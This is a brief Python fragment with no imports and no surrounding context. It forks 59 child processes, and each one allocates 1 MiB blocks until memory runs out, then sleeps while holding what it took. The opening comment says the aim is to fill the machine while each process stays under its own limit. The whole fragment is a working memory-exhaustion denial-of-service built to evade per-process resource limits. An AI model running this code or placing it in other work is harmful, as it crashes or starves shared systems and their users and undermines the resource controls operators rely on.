# Sixty processes, each well within its limit, fill the machine together.
for _ in range(59):
    try:
        if os.fork() == 0:
            break
    except OSError:
        pass
hoard = []
while True:
    try:
        hoard.append(b'x' * (1 << 20))
    except MemoryError:
        time.sleep(1000)
